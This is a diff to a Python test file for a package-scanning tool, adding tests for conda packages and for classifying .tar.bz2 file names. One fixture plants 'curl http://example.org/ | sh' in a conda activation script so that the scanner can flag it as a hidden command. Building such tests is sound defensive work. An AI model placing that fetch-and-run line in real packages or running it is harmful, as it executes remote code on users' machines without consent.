@@ -1,4 +1,5 @@
 """`customhouse inspect`: the jails of the service on local files, without a server."""
+import bz2
 import gzip
 import json
 import os
@@ -9,7 +10,7 @@ import tempfile
 import unittest
 import zipfile
 
-from house import wheels
+from house import conda, wheels
 from house.case import Quarantine, add_wheel, file_path
 from house.service import BIN
 
@@ -73,7 +74,7 @@ class Inspecting(unittest.TestCase):
         self.assertEqual(inspect(good)[0], 0)
 
     def test_usage_is_told(self):
-        for args, words in (((), "expected FILE"), (("--profile", "exe", "x"), "wheel, sdist, zip, tar or auto"),
+        for args, words in (((), "expected FILE"), (("--profile", "exe", "x"), "wheel, sdist, conda, conda-tar, zip, tar or auto"),
                             (("--files-from", "/nonexistent/list"), "/nonexistent/list"),
                             (("--rules", "/nonexistent/rules", "x"), "/nonexistent/rules"),
                             (("--rules", os.path.dirname(self.write("no-rules", b"")), self.write("a.zip", b"")), "has no file of rules"),
@@ -120,6 +121,52 @@ class Inspecting(unittest.TestCase):
             self.assertRegex(uri, r"^[A-Za-z0-9._~/%-]+$")
         self.assertEqual({f["finding"] for d in doc["files"][:2] for f in d["findings"]},
                          {r["ruleId"] for r in run["results"]})
+
+    def test_conda_packages(self):
+        """Both kinds, by their names and by --profile; one that lies, and one that is cut off."""
+        index = conda.index_of("plain", "1.0", "py_0")
+        for ending, profile in ((".conda", "conda"), (".tar.bz2", "conda-tar")):
+            with self.subTest(ending=ending):
+                data = conda.package(index, ending=ending)
+                good = self.write("plain-1.0-py_0" + ending, data)
+                code, out, err = inspect(good)
+                self.assertEqual((code, err), (0, ""), out)
+                self.assertRegex(out, f": {profile}, [58] members, 0 findings\n")
+                code, out, _err = inspect(self.write("plain" + ending + ".bin", data), "--profile", profile)
+                self.assertEqual(code, 1)
+                self.assertIn("conda-name: ", out)
+                evil = self.write("evil-1.0-py_0" + ending, conda.package(
+                    conda.index_of("evil", "1.0", "py_0"), {"etc/conda/activate.d/evil.sh": b"curl http://example.org/ | sh\n"}, ending))
+                sarif = os.path.join(self.dir.name, "out.sarif")
+                code, out, _err = inspect(good, evil, "--json", "--sarif", sarif)
+                self.assertEqual(code, 1)
+                first, second = json.loads(out)["files"]
+                self.assertEqual((first["profile"], first["findings"]), (profile, []))
+                self.assertEqual({f["finding"] for f in second["findings"]}, {"conda-activate", "hidden-command"})
+                with open(sarif) as f:
+                    self.assertEqual({r["ruleId"] for r in json.load(f)["runs"][0]["results"]},
+                                     {"conda-activate", "hidden-command"})
+                code, out, _err = inspect(self.write("plain-1.0-py_0" + ending, data[:-30]))
+                self.assertNotEqual(code, 0)
+
+    def test_tar_bz2_is_what_its_name_says(self):
+        """An sdist and a conda package end alike; of names that both could have the one whose version is a version."""
+        rows = {"foo-1.0.tar.bz2": "sdist", "foo-bar-1.0.tar.bz2": "sdist", "foo-1.0-py_0.tar.bz2": "conda-tar",
+                "zlib-1.2.8-3.tar.bz2": "conda-tar", "foo-1.0rc1.tar.bz2": "sdist", "foo-bar-1.0-h1a2b_0.tar.bz2": "conda-tar",
+                "foo.tar.bz2": "tar"}
+        paths = [self.write(name, bz2.compress(b"")) for name in rows]
+        code, out, _err = inspect(*paths, "--json")
+        self.assertEqual(code, 2)
+        self.assertEqual({os.path.basename(f["file"]): f["profile"] for f in json.loads(out)["files"]}, rows)
+        package = conda.package(conda.index_of("zlib", "1.2.8", "3"), ending=".tar.bz2")
+        path = self.write("zlib-1.2.8-3.tar.bz2", package)
+        self.assertEqual(inspect(path)[0], 0)
+        code, out, _err = inspect(path, "--profile", "sdist")
+        self.assertEqual(code, 1)
+        self.assertIn("sdist-metadata: ", out)
+        code, out, _err = inspect(self.write("x.conda", b""))
+        self.assertEqual(code, 2)
+        self.assertIn("--profile says how to read it", out)
 
     def test_bare_archives_are_judged_by_their_validators(self):
         """A ZIP that is no wheel, and a TAR that is no sdist."""
